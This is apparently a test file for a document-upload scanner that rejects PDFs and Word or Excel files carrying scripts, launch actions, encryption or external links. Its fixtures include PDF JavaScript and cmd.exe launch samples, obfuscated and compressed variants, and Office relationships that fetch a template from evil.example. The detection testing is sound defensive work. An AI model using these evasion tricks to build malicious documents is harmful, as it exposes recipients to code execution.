import { randomBytes } from 'node:crypto'
import { constants, deflateSync, inflateSync } from 'node:zlib'
import { text } from '@veos/contract/platform/texts/text'
import fc from 'fast-check'
import PDFDocument from 'pdfkit'
import { describe, expect, test } from 'vitest'
import { anOfficeFile, aPdf, aPdfWith, packObjects } from '../../../testing/documents.ts'
import { checkActiveContent } from './documentType.ts'
import { findPdfKey } from './pdfKey.ts'

const scripts = text('document_pdf_scripts')
const hidden = text('document_pdf_protected')
const loads = text('document_office_active')
const script = '<</S/JavaScript/JS(app.alert(1))>>'
const protectedBy = '8 0 obj<</Filter/Standard/V 4>>endobj\n9 0 obj<</Encrypt 8 0 R>>endobj'

describe('a PDF is refused for what it would run', () => {
  test.each<[string, Buffer, string]>([
    ['a script', aPdfWith(`7 0 obj${script}endobj`), scripts],
    ['a script when it opens', aPdfWith('7 0 obj<</OpenAction<</S /JavaScript /JS 8 0 R>>>>endobj'), scripts],
    ['its name in other letters', aPdfWith('7 0 obj<</S/J#61va#53cript/JS(x)>>endobj'), scripts],
    ['scripts by name', aPdfWith('7 0 obj<</Names<</JavaScript 8 0 R>>>>endobj'), scripts],
    ['a program', aPdfWith('7 0 obj<</S/Launch/F(cmd.exe)>>endobj'), scripts],
    ['a film', aPdfWith('7 0 obj<</Subtype/RichMedia>>endobj'), scripts],
    ['a rendition with a script', aPdfWith('7 0 obj<</S/Rendition/JS(x)>>endobj'), scripts],
    ['a form that is a program', aPdfWith('7 0 obj<</AcroForm<</XFA[(template)8 0 R]>>>>endobj'), scripts],
    ['behind what looks like a stream', aPdfWith(`% stream\n7 0 obj${script}endobj\n% endstream`), scripts],
    ['packed objects', aPdfWith(packObjects(`10 0 ${script}`)), scripts],
    [
      'packed objects of another name',
      aPdfWith(packObjects(`10 0 ${script}`, '/N 1/First 5/Filter[/FlateDecode]')),
      scripts,
    ],
    [
      'packed objects in escapes',
      aPdfWith(packObjects(`10 0 ${script}`, '/Type/Obj#53tm/Filter/Fl#61teDecode')),
      scripts,
    ],
    [
      'objects packed twice',
      aPdfWith(packObjects('x', '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]')),
      scripts,
    ],
    [
      'objects packed in rows',
      aPdfWith(packObjects('x', '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
      scripts,
    ],
    ['objects that unfold to too much', aPdfWith(packObjects(' '.repeat(51_000_000))), scripts],
    [
      'packed objects that break off',
      aPdfWith(packObjects(`10 0 ${script} ${'x'.repeat(300)}`).subarray(0, 150)),
      scripts,
    ],
    ['packed objects behind what nobody can read', aPdfWith(packObjects('10 0 <<>>'), protectedBy), hidden],
    ['what nobody can read, its objects in the clear', aPdfWith(protectedBy), hidden],
  ])('a PDF is refused for its active content: %s', async (_, bytes, fault) =>
    expect(await checkActiveContent('pdf', bytes)).toBe(fault),
  )
})

describe('a PDF is taken', () => {
  test.each<[string, Buffer]>([
    ['that is plain', aPdf],
    ['with links', aPdfWith('7 0 obj<</S/URI/URI(https://veos.example/?a=JavaScript)>>endobj')],
    ['that opens at a page', aPdfWith('7 0 obj<</OpenAction[3 0 R/Fit]>>endobj')],
    ['with an attached invoice', aPdfWith('7 0 obj<</Type/Filespec/EF<</F 8 0 R>>/UF(factur-x.xml)>>endobj')],
    ['whose objects are packed', aPdfWith(packObjects('10 0 <</S/URI/URI(https://veos.example)>>'))],
    ['with other names that begin alike', aPdfWith('7 0 obj<</LaunchedBy(us)/XFAlike true/JavaScripts 1>>endobj')],
  ])('a PDF is accepted: %s', async (_, bytes) => expect(await checkActiveContent('pdf', bytes)).toBeNull())

  test('a PDF with pictures of any bytes is accepted', async () => {
    for (let round = 0; round < 5; round++) {
      const picture = Buffer.concat([
        Buffer.from('7 0 obj<</Subtype/Image>>stream\n'),
        randomBytes(4_000_000),
        Buffer.from('\nendstream endobj'),
      ])
      expect(await checkActiveContent('pdf', aPdfWith(picture))).toBeNull()
    }
  })
})

describe('a PDF that has a password', () => {
  const versions = ['1.3', '1.4', '1.6', '1.7', '1.7ext3'] as const

  test.each(versions)(
    'a PDF with only an owner password is accepted, and one that needs a password to open is not: PDF %s',
    async (version) => {
      expect(await checkActiveContent('pdf', await protectedPdf({ version }))).toBeNull()
      expect(await checkActiveContent('pdf', await protectedPdf({ version, userPassword: 'secret' }))).toEqual(hidden)
    },
  )

  test.each(versions)('a protected PDF is decrypted as readers do it: PDF %s', async (version) => {
    const bytes = await protectedPdf({ version })
    const file = bytes.toString('latin1')
    const [head, number, length] = /(\d+) 0 obj\n<<\n\/Length (\d+)\n\/Filter \/FlateDecode\n>>\nstream\n/.exec(file)!
    const start = file.indexOf(head) + head.length
    const key = findPdfKey(file)!
    const packed = key.decrypt({ number: Number(number), generation: 0 }, bytes.subarray(start, start + Number(length)))
    expect(inflateSync(packed, { finishFlush: constants.Z_SYNC_FLUSH }).toString()).toContain('BT')
  })

  test.each([
    ['harmless', '10 0 <</S/URI/URI(https://veos.example)>>', null],
    ['a script', `10 0 ${script}`, scripts],
  ])('a PDF with only an owner password is scanned, including compressed objects: %s', async (_, objects, fault) => {
    const bytes = await protectedPdf({ version: '1.4' })
    const key = findPdfKey(bytes.toString('latin1'))!
    // With RC4, encryption and decryption are the same.
    const sealed = key.decrypt({ number: 70, generation: 0 }, deflateSync(Buffer.from(objects)))
    const description = `70 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length ${sealed.length}>>stream\n`
    const stream = Buffer.concat([Buffer.from(description), sealed, Buffer.from('\nendstream endobj\n')])
    const at = bytes.indexOf('trailer')
    const whole = Buffer.concat([bytes.subarray(0, at), stream, bytes.subarray(at)])
    expect(await checkActiveContent('pdf', whole)).toEqual(fault)
    const ofUnknownLength = Buffer.from(
      whole.toString('latin1').replace(/\/Length \d+>>stream/, '/Length 9 0 R>>stream'),
      'latin1',
    )
    expect(await checkActiveContent('pdf', ofUnknownLength)).toEqual(hidden)
  })

  test('a PDF with any bytes does not crash the scan', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '/Encrypt',
        ' 8 0 R',
        '8 0 obj',
        '<<',
        '>>',
        '/V 4',
        '/R 6',
        '/P -1',
        '/U(',
        ')',
        '/O<',
        '/ID[',
        ']',
      ),
      fc.string({ unit: 'binary', maxLength: 40 }),
    )
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        expect(findPdfKey(pieces.join(''))).toBeNull()
      }),
    )
  })
})

function protectedPdf({ version, userPassword }: { version: string; userPassword?: string }): Promise<Buffer> {
  return new Promise((done) => {
    const pdf = new PDFDocument({
      pdfVersion: version as '1.4',
      ownerPassword: 'owner',
      ...(userPassword !== undefined && { userPassword }),
    })
    const parts: Buffer[] = []
    pdf.on('data', (part: Buffer) => parts.push(part))
    pdf.on('end', () => done(Buffer.concat(parts)))
    pdf.text('Insurance of carriers')
    pdf.end()
  })
}

const start = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const space = 'http://schemas.openxmlformats.org/package/2006/relationships'
const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const template = `<Relationship Id="rId1" Type="${kinds}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`
const listOf = (...relationships: string[]) =>
  `${start}<Relationships xmlns="${space}">${relationships.join('')}</Relationships>`
const docx = (list: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
  anOfficeFile('docx', { [name]: { text: list } })

describe('an office document is refused for what it would load or run', () => {
  const external = (kind: string, mode = 'External') =>
    listOf(`<Relationship Id="rId1" Type="${kinds}/${kind}" Target="file://evil.example/a" TargetMode="${mode}"/>`)
  test.each<[string, Buffer]>([
    ['a template', docx(listOf(template))],
    ['a template, in single quotes', docx(listOf(template.replaceAll('"', "'")))],
    ['a template, in references', docx(listOf(template.replace('"External"', '"&#69;xtern&#x61;l"')))],
    ['a template, with a prefix', docx(listOf(template).replaceAll('<Rel', '<a:Rel').replaceAll('</Rel', '</a:Rel'))],
    ['a template, in UTF-16', docx(Buffer.from(`\ufeff${listOf(template)}`, 'utf16le'))],
    ['a template, after one that hides it', docx(listOf('<Relationship Id="a" Target="x>y" Type="b"/>', template))],
    ['a template, in a list of another form', docx(listOf(`<!-- -->${template}`))],
    ['an entity', docx(`<!DOCTYPE a [<!ENTITY b "External">]>${listOf(template)}`)],
    ['an encoding that reads otherwise', docx(listOf().replace('UTF-8', 'UTF-7'))],
    ['a list that is a bomb', docx(' '.repeat(2_000_000))],
    ['a list whose name is in capitals', docx(listOf(template), 'word/_rels/SETTINGS.XML.RELS')],
    ['a picture elsewhere', docx(external('image'), 'word/_rels/document.xml.rels')],
    ['an object elsewhere', docx(external('oleObject'), 'word/_rels/document.xml.rels')],
    ['a frame', docx(external('frame', ' external '), 'word/_rels/webSettings.xml.rels')],
    [
      'another workbook',
      anOfficeFile('xlsx', { 'xl/externalLinks/_rels/externalLink1.xml.rels': { text: external('externalLinkPath') } }),
    ],
    ['a control', anOfficeFile('docx', { 'word/activeX/activeX1.xml': { text: 'x' } })],
    ['a program', anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': { text: 'x' } })],
  ])('an office document is refused for external or active content: %s', async (_, bytes) => {
    const type = bytes.includes('xl/') ? 'xlsx' : 'docx'
    expect(await checkActiveContent(type, bytes)).toBe(loads)
  })
})

test('an office document may link to pages and contain parts of its own', async () => {
  const link = `<Relationship Id="rId2" Type="${kinds}/hyperlink" Target="https://veos.example/?a=1&amp;b=2" TargetMode="External"/>`
  const own = `<Relationship Id="rId3" Type="${kinds}/styles" Target="styles.xml"></Relationship>`
  expect(await checkActiveContent('docx', docx(listOf(own, link, '\n')))).toBeNull()
  expect(await checkActiveContent('docx', docx(`${start}<Relationships xmlns="${space}"/>`))).toBeNull()
  expect(
    await checkActiveContent('xlsx', anOfficeFile('xlsx', { 'xl/embeddings/sheet1.xlsx': { text: 'x' } })),
  ).toBeNull()
})

test('any bytes in a list or after a stream do not crash the scan', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 300 }), async (bytes) => {
      expect([null, loads]).toContain(await checkActiveContent('docx', docx(Buffer.from(bytes))))
      const stream = Buffer.concat([Buffer.from('7 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'), bytes])
      expect([null, scripts]).toContain(await checkActiveContent('pdf', aPdfWith(stream)))
    }),
  )
})
